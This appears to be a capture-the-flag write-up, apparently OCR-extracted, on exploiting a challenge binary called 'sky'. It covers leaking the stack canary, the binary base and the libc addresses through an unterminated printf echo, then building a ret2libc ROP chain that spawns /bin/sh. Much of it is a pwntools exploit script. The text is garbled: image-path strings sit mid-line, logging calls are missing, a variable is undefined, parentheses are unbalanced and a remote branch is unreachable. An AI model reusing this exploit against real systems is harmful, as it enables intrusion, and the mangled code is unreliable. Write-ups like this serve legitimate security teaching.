There's a lot of unnecessary bloat that I'll mostly ignore.

Cracking open the binary in ghidra, we see that the first input we get is actually a scanf, scanning a decimal integer into a variable. It then checks this integer against 1. If the integer isn't 1, it pops a shell - zsh. Nothing happens remotely, likely they do not have zsh. So that's not very useful.

What happens if the integer is 1? It continues with the rest of the execution of the program. The program opens up a never-ending prompt in which it asks for an input. If the input is the same as notflag{a_cloud_is_just_someone_elses_computer}\n when strcmp-ed,the program tells us we did it and rets. This will be useful later on to deliver our final exploit.

In the prompt, 0x200 bytes are read into rbp-0x90, creating a clear buffer overflow vulnerability.

Sadly, however, every protection is on. Canary, RELRO, PIE and most likely ASLR. We're going to need to leak somehow.. but how?

The read function doesnot null terminate. That means our input will not be null terminated as a string unless we enter a null byte. Not only this, but theprogram calls printf("%s??", input), printing the input back to us. Printf will only know the end of a string once it hits a null byte, meaning we can leak values off of the stack!

For example, say this was the stack

00 00 00 00 00 00 00 00 00 \

we could write like so

41 41 41 41 41 41 41 41 0a \

now, when it prints, it'll keep printing, leaking the canary and saved RBP .fini address.NOTE: Canaries start with null bytes! We will have to overflow one byte of the canary so that we can read the rest. It doesn't matter that we overflow the canary until we make the program ret, but by then we will know what the full canary is and be able to replace it.

We can use this again to leak the saved ret address, which will be __libc_start_main_ret.

Once all these values are leaked, we send the finished exploit. notflag{a_cloud_is_just_someone_elses_computer}\n\x00 + padding + canary + more padding + poprdi + /bin/sh address + retgadget + systemaddress

NOTE: We can leak the binary base through the .fini address. We don't strictly need it here, as libc has ROP gadgets,but it's useful.

from pwn import *
mode = sys.argv[1]
NUM_TO_CANARY = 0x90 - 0x8
retgadget  = 0x000000000000078e # ret
poprdi = 0x0000000000000bd3 # pop rdi ; rete = ELF("./sky")
def getproc():
    if mode == 'local':
        return e.process()
        return remote('', 31034)
def setup():
    p = getproc()
    p.recvuntil("shot: ")
    return p
def getoutput(data):
    global p
    p.recvuntil(data + b'\n')
    output = p.recvuntil("??")[:-2]
    p.recvuntil("shot: ")return output
libc = ELF("/lib/x86_64-linux-gnu/" if mode == 'local' else "/home/kali/Tools/libc-database/libs/libc6_2.27-3ubuntu1_amd64/")
p = setup()
#Leak canary and binary base
libret = 0x21b97 if mode == 'remote' else 0x26e0b
leak = getoutput(b"A" * (NUM_TO_CANARY))
canary = u64(b'\x00' + leak[:7])"Canary: {hex(canary)}")
fini = u64(leak[7:] + b'\x00\x00')
e.address = fini - 0xb70"Binary base: {hex(e.address)}")
#Leak libc base by leaking the libc start main ret
leak2 = getoutput(b"A" * (NUM_TO_RET-1))
libret_leak = u64(leak2 +b'\x00\x00')"Libc start main ret: {hex(libret_leak)}")
libcbase = libret_leak - libret"Libc base: {hex(libcbase)}")
libc.address = libcbase
retgadget += e.address
poprdi += e.address
# Everything has been leaked. Develop the final payload.
final =flat(canary,b'C'*8,poprdi,next("/bin/sh\x00")),retgadget,libc.symbols['system'],word_size=64)padding = b"notflag{a_cloud_is_just_someone_elses_computer}\n\x00"
padding += b'B' * (NUM_TO_CANARY - len(padding))
p.sendline(padding+ final)

Last updated